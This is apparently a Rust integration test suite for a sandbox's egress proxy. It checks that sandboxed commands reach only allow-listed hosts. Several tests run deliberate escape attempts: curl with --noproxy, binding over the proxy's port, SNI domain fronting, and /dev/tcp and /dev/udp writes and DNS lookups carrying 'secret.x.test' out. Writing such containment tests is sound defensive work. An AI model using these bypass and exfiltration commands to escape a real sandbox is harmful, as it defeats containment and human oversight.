//! The proxy as commands in a real sandbox meet it.

use std::net::{TcpListener, UdpSocket};
use std::sync::atomic::Ordering;
use std::time::Duration;

use glasshouse_sandbox::egress::Denial;
use glasshouse_sandbox::{Sandbox, SandboxSpec, Status, TemplateName};

use super::support::*;
use crate::support::{Home, shell};

const OK: &str = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

/// A sandbox that may reach `a.test`, which is this sink.
fn confined(home: &Home, sink: &Sink) -> (Sandbox, Scene) {
    let mut inside = None;
    // The scene's own proxy is not used here; its gate, names and lines are.
    let scene = Scene::with(&["a.test"], |egress| inside = Some(egress.clone()));
    scene.lines.set("1.1.1.1", sink);
    let spec = SandboxSpec::new("net", TemplateName::IntegrationTest.template());
    (home.host.create_with_egress(&spec, inside.unwrap()).unwrap(), scene)
}

#[test]
fn sandbox_reaches_listed_hosts_through_the_proxy_and_nothing_else() {
    let (home, sink) = (Home::new(), Sink::http(OK));
    let (sandbox, scene) = confined(&home, &sink);
    assert_eq!(shell(&sandbox, "curl -sS http://a.test/x?y=1").ok(), "ok");
    assert!(sink.next().starts_with("GET /x?y=1 HTTP/1.1\r\nHost: a.test\r\n"));
    assert_eq!(scene.record().denial, None);

    let told = shell(&sandbox, "curl -sS http://b.test/").ok();
    assert!(told.contains("b.test was refused: not_allowed\nwhy: "), "{told}");
    assert_eq!(scene.record().denial, Some(Denial::NotAllowed));

    // Past the proxy there is no network: not to the sink, which is on the host's loopback.
    let direct = format!("curl -sS --noproxy '*' -m 5 http://{}/", sink.address);
    let ran = shell(&sandbox, &direct);
    assert_eq!(ran.result.status, Status::Exited(7), "{ran:?}");
    let control = std::process::Command::new("sh").args(["-c", &direct]).output().unwrap();
    assert_eq!(control.stdout, b"ok", "the control failed, so the attack proves nothing");
    assert!(sink.next().contains(&sink.address.to_string()), "only the control arrived");

    // A command cannot take the proxy's place.
    let bind = "python3 -c 'import socket; s = socket.socket(); \
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); \
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); \
                s.bind((\"127.0.0.1\", NUMBER))'";
    let ran = shell(&sandbox, &bind.replace("NUMBER", "3128"));
    assert!(ran.err.contains("Address already in use"), "{ran:?}");
    shell(&sandbox, &bind.replace("NUMBER", "3129")).ok();
    sandbox.destroy().unwrap();
}

#[test]
fn sandbox_tunnels_carry_what_a_real_client_says() {
    let (home, sink) = (Home::new(), Sink::raw());
    let (sandbox, scene) = confined(&home, &sink);
    // The sink is no TLS server: only what it was sent matters.
    shell(&sandbox, "curl -sS -m 5 https://a.test/");
    let got = sink.next();
    assert!(got.starts_with('\u{16}') && got.contains("a.test"), "{got}");
    let record = scene.record();
    assert_eq!((record.denial, &*record.method, record.port), (None, "CONNECT", 443));
    // The tunnel of one host, the name of another.
    let fronted = "curl -sS -m 5 --connect-to b.test:443:a.test:443 https://b.test/";
    shell(&sandbox, fronted);
    assert_eq!(scene.record().denial, Some(Denial::SniMismatch));
    assert_eq!(scene.lines.dialled.lock().unwrap().len(), 1, "only the first tunnel connected");
    let around = format!(
        "curl -sS -m 5 --noproxy '*' --connect-to b.test:443:{} https://b.test/",
        sink.address
    );
    std::process::Command::new("sh").args(["-c", &around]).output().unwrap();
    assert!(sink.next().contains("b.test"), "the control: without the proxy it arrives");
}

#[test]
fn sandbox_e1_no_name_lookup_carries_data_out() {
    let (home, sink) = (Home::new(), Sink::http(OK));
    let (sandbox, scene) = confined(&home, &sink);
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let tcp = TcpListener::bind(udp.local_addr().unwrap()).unwrap();
    let port = udp.local_addr().unwrap().port();
    udp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    tcp.set_nonblocking(true).unwrap();
    let attack = format!(
        "for protocol in udp tcp; do bash -c \"echo secret.x.test > /dev/$protocol/127.0.0.1/{port}\"; done"
    );
    shell(&sandbox, &attack);
    shell(&sandbox, "getent hosts secret.x.test; getent ahosts secret.a.test");
    shell(&sandbox, "curl -sS http://secret.x.test/; curl -sS https://secret.x.test/");
    // What is denied is not looked up either: a name server's owner learns nothing.
    assert_eq!(scene.names.lookups.load(Ordering::SeqCst), 0);
    assert_eq!(scene.record().denial, Some(Denial::NotAllowed));
    assert_eq!(scene.record().denial, Some(Denial::NotAllowed));
    assert!(tcp.accept().is_err(), "a connection came out of the sandbox");
    // The control marks the end: had a packet come before it, it would be read first.
    let control = attack.replace("secret.x.test", "control");
    std::process::Command::new("sh").args(["-c", &control]).output().unwrap();
    let mut packet = [0; 64];
    let read = udp.recv(&mut packet).unwrap();
    assert_eq!(&packet[..read], b"control\n");
    tcp.set_nonblocking(false).unwrap();
    tcp.accept().unwrap();
}

/// Programs agree neither on a name nor on its letters, so each is there and a sandbox without a proxy has none.
#[test]
fn sandbox_tells_where_the_proxy_is_in_every_spelling() {
    let (home, sink) = (Home::new(), Sink::http(OK));
    let (sandbox, _scene) = confined(&home, &sink);
    let look = "env | grep -i proxy | LC_ALL=C sort";
    let expected = "\
ALL_PROXY=http://127.0.0.1:3128
HTTPS_PROXY=http://127.0.0.1:3128
HTTP_PROXY=http://127.0.0.1:3128
NO_PROXY=localhost,127.0.0.1,::1
all_proxy=http://127.0.0.1:3128
http_proxy=http://127.0.0.1:3128
https_proxy=http://127.0.0.1:3128
no_proxy=localhost,127.0.0.1,::1
";
    assert_eq!(shell(&sandbox, look).ok(), expected);
    let spec = SandboxSpec::new("none", TemplateName::CodeExecutor.template());
    assert_eq!(shell(&home.host.create(&spec).unwrap(), look).ok(), "");
}

#[test]
fn sandbox_without_a_proxy_has_nothing_that_listens() {
    let home = Home::new();
    let look =
        "test -z \"$http_proxy$HTTPS_PROXY$ALL_PROXY\" && ! bash -c '</dev/tcp/127.0.0.1/3128'";
    for template in [TemplateName::CodeExecutor, TemplateName::IntegrationTest] {
        let sandbox = home.host.create(&SandboxSpec::new("none", template.template())).unwrap();
        shell(&sandbox, look).ok();
    }
    let sink = Sink::http(OK);
    let (sandbox, _scene) = confined(&home, &sink);
    assert_ne!(shell(&sandbox, look).result.status, Status::Exited(0), "the control");
    let mut egress = None;
    Scene::with(&["a.test"], |made| egress = Some(made.clone()));
    let spec = SandboxSpec::new("none", TemplateName::Script.template());
    let refused = home.host.create_with_egress(&spec, egress.unwrap()).unwrap_err();
    assert_eq!(refused.code(), "sandbox_spec_invalid");
}

#[test]
fn sandbox_end_ends_and_records_its_connections() {
    let (home, sink) = (Home::new(), Sink::raw());
    let (sandbox, scene) = confined(&home, &sink);
    // It says half a request and is killed with the command.
    shell(
        &sandbox,
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf \"GET http://a\" >&3; exit 0'",
    );
    assert!(scene.record_now().unwrap().denial.is_some(), "recorded when the command is over");
    sandbox.destroy().unwrap();
}
